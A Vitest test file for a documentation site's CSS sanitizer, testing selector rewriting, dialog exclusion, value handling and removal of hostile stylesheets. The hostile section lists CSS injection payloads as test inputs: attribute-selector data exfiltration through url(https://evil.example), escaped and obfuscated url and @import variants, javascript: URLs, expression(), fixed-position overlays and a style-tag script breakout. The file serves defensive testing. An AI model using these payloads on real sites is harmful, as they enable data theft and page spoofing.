import { describe, expect, test } from 'vitest'
import { cleanStylesheet } from '../../../../src/site/content/allowed/clean-stylesheet.ts'

const clean = (text: string) =>
  cleanStylesheet(text, {
    resolveUrl: (url) => (url === 'a.png' || url === '/fonts/a.woff2' ? `/docs/${url.replace(/^\//, '')}` : undefined),
    isOwnStylesheet: (url) => url === './other.css',
  })
/** The stylesheet without the marks that exclude dialogs. */
const plain = (text: string) => clean(text).text.replaceAll(':where(:not(dialog,dialog *))', '')

describe('selectors', () => {
  test.each([
    ['.mine{color:red}', '.x-mine{color:red}'],
    ['.mine.other>p{color:red}', '.x-mine.x-other>p{color:red}'],
    ['#own{color:red}', '#own{color:red}'],
    ['header nav{color:red}', 'header nav{color:red}'],
    ['.dark .mine{color:red}', ':is(.x-dark,[data-theme=dark]) .x-mine{color:red}'],
    ['a:not(.mine,#own){color:red}', 'a:not(.x-mine,#own){color:red}'],
    ['html[data-current-path^="/api/"] h2{color:red}', 'html[data-current-path^="/api/"] h2{color:red}'],
    ['@media (max-width:9px){.mine{color:red}}', '@media (max-width:9px){.x-mine{color:red}}'],
    ['.mine{& p{color:red}}', '.x-mine{& p{color:red}}'],
    ['.mine{p{color:red}h2,h3{color:red}}', '.x-mine{& p{color:red}& h2,h3{color:red}}'],
    ['.mine{--a:1px;a:hover{color:red}margin:0}', '.x-mine{--a:1px;& a:hover{color:red}margin:0}'],
    ['.mine{>p{color:red}}', '.x-mine{&>p{color:red}}'],
    ['.mine{.dark &{color:red}}', '.x-mine{&:is(:is(.x-dark,[data-theme=dark]) &){color:red}}'],
    ['.mine{.a & p{color:red}}', '.x-mine{& :is(.x-a & p){color:red}}'],
    ['.mine{@media print{p{color:red}}}', '.x-mine{@media print{& p{color:red}}}'],
    ['.mine{/* { */p{content:"{;}"}}', '.x-mine{& p{content:"{;}"}}'],
    ['.mine{a[href="{"]{color:red}}', '.x-mine{& a[href="{"]{color:red}}'],
    ['@keyframes spin{from{left:0}50%{left:1px}}', '@keyframes spin{from{left:0}50%{left:1px}}'],
    // A class of the site cannot be matched.
    ['.btn{color:red}', '.x-btn{color:red}'],
    ['.constructor #__proto__{color:red}', '.x-constructor #__proto__{color:red}'],
  ])('translates %s', (text, expected) => {
    expect(plain(text)).toBe(expected)
  })

  test.each([
    ['dialog input{color:red}', 'dialog input:where(:not(dialog,dialog *)){color:red}'],
    ['*::before,p:after{color:red}', '*:where(:not(dialog,dialog *))::before,p:where(:not(dialog,dialog *)):after{color:red}'],
    ['p{dialog{color:red}}', 'p:where(:not(dialog,dialog *)){& dialog:where(:not(dialog,dialog *)){color:red}}'],
    ['.a{&:hover{color:red}}', '.x-a:where(:not(dialog,dialog *)){&:hover:where(:not(dialog,dialog *)){color:red}}'],
  ])('excludes dialogs from %s', (text, expected) => {
    expect(clean(text).text).toBe(expected)
  })

  test('lists the class names', () => {
    expect(clean('.b .a:not(.c){color:red}@media print{.d{color:red}}').classes).toEqual(['a', 'b', 'c', 'd'])
  })
})

describe('values', () => {
  test.each([
    'color:rgb(1 2 3/50%)',
    'width:calc(100% - 2*(1px + 2px))',
    'content:"“"',
    'content:attr(data-x)',
    'background:url(#drop)',
    'background:url(data:image/png;base64,AAAA)',
    'background:linear-gradient(#fff,var(--x,#000))!important',
    'font:400 1rem/1.5"Own Font",sans-serif',
    'position:sticky',
    '--own:1px solid red',
  ])('keeps %s', (declaration) => {
    expect(plain(`p{${declaration}}`)).toBe(`p{${declaration}}`)
    expect(clean(`p{${declaration}}`).problems).toEqual([])
  })

  test.each([
    ['"IBM Plex Mono"', '"IBM Plex Mono",var(--mono)'],
    ['Fira Code', 'Fira Code,var(--mono)'],
    ['Geist', 'Geist,var(--sans)'],
    ['Geist,sans-serif', 'Geist,sans-serif'],
    ['inherit', 'inherit'],
    ['var(--own)', 'var(--own)'],
  ])('gives the font family %s a fallback', (family, expected) => {
    expect(plain(`code{font-family:${family}}`)).toBe(`code{font-family:${expected}}`)
  })

  test('resolves files of the docs directory', () => {
    expect(plain('p{background:url("a.png") no-repeat}')).toBe('p{background:url(/docs/a.png)no-repeat}')
    expect(plain('@font-face{font-family:A;src:local("A"),url(/fonts/a.woff2) format("woff2")}')).toBe(
      '@font-face{font-family:A;src:local("A"),url(/docs/fonts/a.woff2)format("woff2")}',
    )
  })
})

describe('hostile stylesheets', () => {
  test.each([
    // Loading from other hosts, such as with the value of an attribute.
    'input[value^="a"]{background:url(https://evil.example/a)}',
    'p{background:url(//evil.example)}',
    'p{background:url("https://evil.example")}',
    'p{background:URL(https://evil.example)}',
    'p{background:u\\72l(https://evil.example)}',
    'p{background:\\75rl("https://evil.example")}',
    'p{background:url(\\68ttps://evil.example)}',
    'p{background:/**/url(https://evil.example)}',
    'p{background:url(https://evil.example}',
    'p{background:image-set("https://evil.example" 1x)}',
    'p{background:-webkit-image-set("https://evil.example" 1x)}',
    'p{background:image("https://evil.example")}',
    'p{background:src("https://evil.example")}',
    'p{background:cross-fade(url(https://evil.example),red)}',
    'p{--a:url(https://evil.example);background:var(--a)}',
    'p{background:var(--b,url(https://evil.example))}',
    'p{background:var(--b,image-set("https://evil.example" 1x))}',
    'p{background:if(style(--a:1):url(https://evil.example))}',
    'p{--a:{background:url(https://evil.example)}}',
    '@font-face{font-family:A;src:url(https://evil.example);unicode-range:U+61}',
    '@import "https://evil.example";',
    '@import url(https://evil.example) layer(a);',
    '@\\69mport "https://evil.example";',
    '@namespace url(https://evil.example);',
    '@document url(https://evil.example){p{color:red}}',
    'p{background:url(../../evil.example.png)}',
    'p{background:url(javascript:evil.example)}',
    'p{background:url(data:text/html,evil.example)}',
    '@media print{@supports (a:b){p{&:hover{background:url(https://evil.example)}}}}',
    '@keyframes a{to{background:url(https://evil.example)}}',
    // Covering the page, and releasing its clip.
    'p{position:fixed;content:"evil.example"}',
    'p{position:FIXED}',
    'p{b{position:fixed}}',
    'p{.a &{background:url(https://evil.example)}}',
    'p{b{contain:none}i{background:url(https://evil.example)}}',
    'p{position:var(--evil)}',
    'p{p\\6fsition:fixed}',
    'article{contain:none!important}',
    'article{all:unset}',
    'article{content-visibility:visible}',
    'p{behavior:url(#evil.example)}',
    'p{-moz-binding:url(#evil.example)}',
    'p{width:expression(alert(1))}',
    'p{background:paint(evil)}',
    'p{background:element(#evil)}',
  ])('removes the harm from %s', (text) => {
    const { text: cleaned, problems } = clean(text)
    expect(cleaned.replace(/content:"[^"]*"/g, '')).not.toMatch(/evil|fixed|contain:|all:|content-visibility|expression|\\/i)
    expect(problems).not.toEqual([])
    // What is left parses to the same.
    expect(clean(cleaned.replaceAll('.x-', '.').replaceAll(':where(:not(dialog,dialog *))', '')).problems).toEqual([])
  })

  test('reports each cause once, with its place', () => {
    expect(clean('p{b{color:red}i{position:fixed}}').problems).toMatchObject([{ start: 16, end: 30 }])
    const { problems } = clean('p{position:fixed}\nb{position:fixed}\n@tailwind base;')
    expect(problems).toEqual([
      { message: 'Unsupported `position: fixed` in a stylesheet', start: 2, end: 16 },
      { message: 'Unsupported `@tailwind` in a stylesheet', start: 36, end: 51 },
    ])
  })

  test.each([
    ['an early end of the element', 'p{color:red}</style><script>alert(1)</script>b{color:blue}'],
    ['unclosed blocks', '@media print{p{color:red'],
    ['only closing braces', '}}}}'],
    ['a byte order mark and HTML comments', '\uFEFF<!-- p{color:red} -->'],
    ['control characters', 'p\0{color:\x01red}'],
  ])('survives %s', (_, text) => {
    expect(clean(text).text).not.toMatch(/<\/style|<script/)
  })

  test('refuses deep nesting and large files before it parses them', () => {
    expect(clean(`${'@media print{'.repeat(5_000)}p{color:red}`)).toMatchObject({
      text: '',
      problems: [{ message: 'Unexpected depth of brackets in a stylesheet' }],
    })
    expect(clean(`p{width:${'calc('.repeat(5_000)}1px}`).text).toBe('')
    expect(clean('p{color:red}'.repeat(50_000)).problems[0]?.message).toBe(
      'Unexpected stylesheet with 600,000 characters, expected at most 500,000',
    )
  })

  test('imports of own stylesheets need no report', () => {
    expect(clean('@charset "utf-8";@import "./other.css";p{color:red}').problems).toEqual([])
  })
})
